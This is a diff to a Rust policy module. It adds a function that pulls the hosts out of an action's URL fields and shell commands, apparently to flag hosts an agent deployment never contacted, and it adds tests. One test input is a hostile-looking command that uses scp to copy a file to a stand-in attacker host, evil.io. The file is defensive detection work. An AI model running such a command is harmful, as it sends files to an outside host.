@@ -287,6 +287,39 @@ pub(crate) fn endpoints_of_input(
         .collect()
 }
 
+/// The hosts an action connects to, read as the `url` / `host` conditions read them with the
+/// default pointers: URLs or hosts at `/url` and `/host`, and the hosts the shell command at
+/// `/command` names (`curl`, `ssh`, `nc`, git remotes, ...). Normalised (lowercase, IPs in
+/// canonical form), deduplicated, in order; hosts that cannot be read are left out. Used by the
+/// daemon's deployment memory ("a host this deployment never contacted").
+pub fn hosts_of_input(input: &Map<String, Value>) -> Vec<String> {
+    let pointers: Vec<JsonPointer> = DEFAULT_NETWORK_POINTERS
+        .iter()
+        .filter_map(|p| JsonPointer::parse(p).ok())
+        .collect();
+    let mut endpoints = endpoints_of_input(&pointers, input);
+    if let Some(Value::String(command)) = input.get("command") {
+        endpoints.extend(
+            crate::shell::parse(command)
+                .commands
+                .iter()
+                .flat_map(endpoints_of_command),
+        );
+    }
+    let mut hosts: Vec<String> = Vec::new();
+    for endpoint in endpoints {
+        let host = match endpoint.host {
+            Some(Host::Domain(domain)) => domain,
+            Some(Host::Ip(ip)) => ip.to_string(),
+            None => continue,
+        };
+        if !hosts.contains(&host) {
+            hosts.push(host);
+        }
+    }
+    hosts
+}
+
 /// Options of ssh-family commands that take a value (so the value is not the destination).
 const SSH_VALUE_OPTIONS: &[&str] = &[
     "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-P",
@@ -601,6 +634,24 @@ mod tests {
     }
 
     #[test]
+    fn hosts_of_input_reads_url_fields_and_shell_commands() {
+        let input = |v: Value| v.as_object().cloned().unwrap();
+        assert_eq!(
+            hosts_of_input(&input(serde_json::json!({"url": "https://Docs.RS./x"}))),
+            ["docs.rs"]
+        );
+        assert_eq!(
+            hosts_of_input(&input(serde_json::json!({
+                "command": "curl http://0x7f.1/a && scp k root@evil.io:/t && curl https://evil.io"
+            }))),
+            ["127.0.0.1", "evil.io"]
+        );
+        assert!(
+            hosts_of_input(&input(serde_json::json!({"command": "echo https://x.io"}))).is_empty()
+        );
+    }
+
+    #[test]
     fn allow_needs_every_endpoint_reject_any() {
         let condition = UrlCondition {
             hosts: Some(hosts(&["docs.rs"])),
@@ -610,8 +661,16 @@ mod tests {
         let docs = endpoint_of_url("https://docs.rs/x").unwrap();
         let plain = endpoint_of_url("http://docs.rs/x").unwrap();
         let evil = endpoint_of_url("https://evil.io").unwrap();
-        assert!(condition.check(&[docs.clone()], Effect::Allow).is_ok());
-        assert!(condition.check(&[plain.clone()], Effect::Allow).is_err());
+        assert!(
+            condition
+                .check(std::slice::from_ref(&docs), Effect::Allow)
+                .is_ok()
+        );
+        assert!(
+            condition
+                .check(std::slice::from_ref(&plain), Effect::Allow)
+                .is_err()
+        );
         assert!(
             condition
                 .check(&[docs.clone(), evil.clone()], Effect::Allow)
